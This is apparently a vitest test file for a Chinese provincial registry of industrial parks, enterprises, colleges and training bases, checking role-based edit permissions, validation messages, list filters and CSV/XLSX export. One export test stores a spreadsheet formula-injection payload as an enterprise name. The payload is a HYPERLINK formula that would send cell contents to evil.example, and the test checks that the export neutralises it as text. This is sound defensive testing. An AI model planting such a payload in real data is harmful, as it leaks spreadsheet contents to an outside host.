import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { action as editAction } from "~/routes/registries.$kind.$id.edit";
import { exportRegistry } from "~/services/registry/export.server";
import { listRegistry, saveRecord } from "~/services/registry/registry.server";
import { readOrIssueCsrfToken } from "~/utils/csrf.server";
import { type Principal, principalOfAccount } from "~/utils/principal.server";
import { startSession } from "~/utils/session.server";
import { prisma } from "~/utils/db.server";
import { readTable } from "~/utils/tabular.server";
import { buildRegistry, createAccount } from "./fixtures";

let registry: Awaited<ReturnType<typeof buildRegistry>>;
let parkAdmin: Principal;
let province: Principal;
let otherBase: { id: number; name: string };
let ownBase: { id: number };
let otherPairing: { id: number };
let otherEnterprise: { id: number; name: string };

const cookiePair = (setCookie: string) => setCookie.split(";")[0]!;
const principal = async (login: string, role: Parameters<typeof createAccount>[1], scope: Record<string, number> = {}) =>
  (await principalOfAccount((await createAccount(login, role, scope)).id))!;

function form(fields: Record<string, string | string[]>): FormData {
  const data = new FormData();
  for (const [key, value] of Object.entries(fields)) for (const v of [value].flat()) data.append(key, v);
  return data;
}

const baseFields = (pairingId: number, name: string) => ({
  name,
  pairingId: String(pairingId),
  capacity: "120",
  trades: "数控车工、电工",
  lng: "115.95",
  lat: "28.55",
});

async function thrown(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    return error;
  }
  throw new Error("expected a rejection");
}

beforeAll(async () => {
  registry = await buildRegistry();
  parkAdmin = await principal("park-admin", "park", { parkId: registry.park.id });
  province = await principal("province-admin", "province");
  const ownPairing = await prisma.pairing.create({
    data: { parkId: registry.park.id, collegeId: registry.college.id, startDate: new Date("2024-09-01") },
  });
  otherPairing = await prisma.pairing.create({
    data: { parkId: registry.otherPark.id, collegeId: registry.otherCollege.id, startDate: new Date("2024-09-01") },
  });
  ownBase = await prisma.trainingBase.create({
    data: { name: "小蓝数控实训基地", parkId: registry.park.id, pairingId: ownPairing.id, capacity: 80, trades: '["数控车工"]', lng: 115.9, lat: 28.5 },
  });
  otherBase = await prisma.trainingBase.create({
    data: { name: "进贤焊接实训基地", parkId: registry.otherPark.id, pairingId: otherPairing.id, capacity: 60, trades: '["焊工"]', lng: 116.2, lat: 28.4 },
    select: { id: true, name: true },
  });
  otherEnterprise = await prisma.enterprise.create({
    data: { creditCode: "913601000000350014", name: "进贤另一家企业", parkId: registry.otherPark.id, clusterRole: "supporting", headcount: 50 },
    select: { id: true, name: true },
  });
});

describe("a park administrator", () => {
  it("edits a training base of their own park", async () => {
    const pairing = await prisma.pairing.findFirstOrThrow({ where: { parkId: registry.park.id } });
    const result = await saveRecord({ principal: parkAdmin, kind: "bases", id: ownBase.id, form: form(baseFields(pairing.id, "小蓝数控实训基地（扩建）")) });
    expect(result.ok).toBe(true);
    expect((await prisma.trainingBase.findUniqueOrThrow({ where: { id: ownBase.id } })).capacity).toBe(120);
  });

  it("cannot edit another park's training base, through the page either", async () => {
    const error = (await thrown(
      saveRecord({ principal: parkAdmin, kind: "bases", id: otherBase.id, form: form(baseFields(otherPairing.id, "改名")) }),
    )) as { status: number };
    expect(error.status).toBe(403);

    const account = await prisma.account.findUniqueOrThrow({ where: { login: "park-admin" } });
    const cookie = cookiePair(await startSession(account.id));
    const csrf = await readOrIssueCsrfToken(new Request("http://app/", { headers: { Cookie: cookie } }));
    const body = new URLSearchParams({ _csrf: csrf.token, ...baseFields(otherPairing.id, "改名") });
    const response = (await thrown(
      editAction({
        request: new Request(`http://app/registries/bases/${otherBase.id}/edit`, {
          method: "POST",
          headers: { Cookie: cookie, "Content-Type": "application/x-www-form-urlencoded" },
          body,
        }),
        params: { kind: "bases", id: String(otherBase.id) },
        context: {},
      }),
    )) as Response;
    expect(response.status).toBe(403);
    expect((await prisma.trainingBase.findUniqueOrThrow({ where: { id: otherBase.id } })).name).toBe(otherBase.name);
  });

  it("cannot create a base on another park's pairing, and is told so beside the field", async () => {
    const result = await saveRecord({ principal: parkAdmin, kind: "bases", form: form(baseFields(otherPairing.id, "越权基地")) });
    expect(result).toMatchObject({ ok: false, fieldErrors: { pairingId: "请选择本园区的园校对接" } });
    expect(await prisma.trainingBase.count({ where: { name: "越权基地" } })).toBe(0);
  });

  it("cannot register a park", async () => {
    const error = (await thrown(saveRecord({ principal: parkAdmin, kind: "parks", form: form({}) }))) as { status: number };
    expect(error.status).toBe(403);
  });
});

describe("an enterprise", () => {
  const fields = (name: string, creditCode: string, parkId: number) => ({
    name,
    creditCode,
    parkId: String(parkId),
    clusterRole: "supporting",
    headcount: "210",
  });

  it("edits its own profile but not its park", async () => {
    const me = await principal("enterprise-user", "enterprise", { enterpriseId: registry.enterprise.id });
    const ok = await saveRecord({ principal: me, kind: "enterprises", id: registry.enterprise.id, form: form(fields("南昌测试科技股份有限公司", registry.enterprise.creditCode, registry.park.id)) });
    expect(ok.ok).toBe(true);
    expect((await prisma.enterprise.findUniqueOrThrow({ where: { id: registry.enterprise.id } })).name).toBe("南昌测试科技股份有限公司");
    const moved = await saveRecord({ principal: me, kind: "enterprises", id: registry.enterprise.id, form: form(fields("x", registry.enterprise.creditCode, registry.otherPark.id)) });
    expect(moved).toMatchObject({ ok: false, fieldErrors: { parkId: "如需迁入其他园区，请联系园区管委会办理" } });
  });

  it("cannot edit another enterprise", async () => {
    const me = await principal("enterprise-user-2", "enterprise", { enterpriseId: registry.enterprise.id });
    const error = (await thrown(
      saveRecord({ principal: me, kind: "enterprises", id: otherEnterprise.id, form: form(fields("被篡改", "913601000000350014", registry.otherPark.id)) }),
    )) as { status: number };
    expect(error.status).toBe(403);
    expect((await prisma.enterprise.findUniqueOrThrow({ where: { id: otherEnterprise.id } })).name).toBe(otherEnterprise.name);
  });

  it("gets a Chinese error beside the credit code when its checksum is wrong", async () => {
    const result = await saveRecord({ principal: province, kind: "enterprises", form: form(fields("校验位错误公司", "913601000000350015", registry.park.id)) });
    expect(result).toMatchObject({ ok: false, fieldErrors: { creditCode: "统一社会信用代码校验位不正确，请核对" } });
  });
});

describe("a college", () => {
  it("edits its own record and no other college's", async () => {
    const me = await principal("college-user", "college", { collegeId: registry.college.id });
    const fields = { name: "江西测试职业技术学院", schoolCode: "4136000001", level: "高职", cityCode: "360100", lng: "115.9", lat: "28.7", majors: "" };
    expect((await saveRecord({ principal: me, kind: "colleges", id: registry.college.id, form: form(fields) })).ok).toBe(true);
    const error = (await thrown(saveRecord({ principal: me, kind: "colleges", id: registry.otherCollege.id, form: form(fields) }))) as { status: number };
    expect(error.status).toBe(403);
  });
});

describe("lists", () => {
  it("flags a park with no pairing in force and filters on it", async () => {
    const expired = await prisma.park.create({
      data: { name: "到期园区", level: "provincial", cityCode: "360100", countyCode: "360121", lng: 116, lat: 28.6 },
    });
    await prisma.pairing.create({ data: { parkId: expired.id, collegeId: registry.college.id, startDate: new Date("2020-01-01"), endDate: new Date("2023-12-31") } });
    const all = await listRegistry({ principal: province, kind: "parks", params: new URLSearchParams() });
    const row = all.rows.find((r) => r.id === expired.id)!;
    expect(row.cells.pairing).toBe("⚠ 无在期对接院校");
    expect(all.rows.find((r) => r.id === registry.park.id)?.warning).toBeUndefined();
    const unpaired = await listRegistry({ principal: province, kind: "parks", params: new URLSearchParams({ pairing: "none" }) });
    expect(unpaired.rows.map((r) => r.cells.name)).toEqual(["到期园区"]);
  });

  it("sorts by a column header and pages", async () => {
    const byName = await listRegistry({ principal: province, kind: "enterprises", params: new URLSearchParams({ sort: "headcount", dir: "desc" }) });
    const counts = byName.rows.map((r) => Number(r.cells.headcount));
    expect(counts).toEqual([...counts].sort((a, b) => b - a));
    expect(byName.pageCount).toBe(1);
  });

  it("exports the filtered list, not the whole registry", async () => {
    const file = await exportRegistry({ principal: province, kind: "bases", params: new URLSearchParams({ format: "csv", park: String(registry.otherPark.id) }) });
    const text = file.body.toString("utf8");
    expect(text.startsWith("\uFEFF基地名称,所属园区")).toBe(true);
    expect(text).toContain("进贤焊接实训基地");
    expect(text).not.toContain("小蓝数控实训基地");
  });

  it("writes an enterprise name that looks like a formula as text in the province's export", async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
    await prisma.enterprise.create({
      data: { creditCode: "913601000000350022", name, parkId: registry.otherPark.id, clusterRole: "supporting", headcount: 10 },
    });
    const csv = await exportRegistry({ principal: province, kind: "enterprises", params: new URLSearchParams({ format: "csv" }) });
    const table = await readTable(csv.body, "export.csv");
    const cells = table.rows.flatMap((r) => r.cells).filter((c) => c.includes("HYPERLINK"));
    expect(cells).toEqual([`'${name}`]);
    const xlsx = await exportRegistry({ principal: province, kind: "enterprises", params: new URLSearchParams({ format: "xlsx" }) });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const values: ExcelJS.CellValue[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void values.push(cell.value)));
    const hyperlink = values.filter((v) => JSON.stringify(v).includes("HYPERLINK"));
    // A string cell, not a { formula } cell: the spreadsheet shows the text and runs nothing.
    expect(hyperlink).toEqual([name]);
  });

  it("shows secondments only to the parties involved", async () => {
    await prisma.secondment.create({
      data: { direction: "college_to_enterprise", personName: "周敏", position: "副总经理", collegeId: registry.otherCollege.id, enterpriseId: otherEnterprise.id, startDate: new Date("2025-01-01") },
    });
    const mine = await listRegistry({ principal: parkAdmin, kind: "secondments", params: new URLSearchParams() });
    expect(mine.rows.map((r) => r.cells.person)).not.toContain("周敏");
    const all = await listRegistry({ principal: province, kind: "secondments", params: new URLSearchParams() });
    expect(all.rows.map((r) => r.cells.person)).toContain("周敏");
  });
});
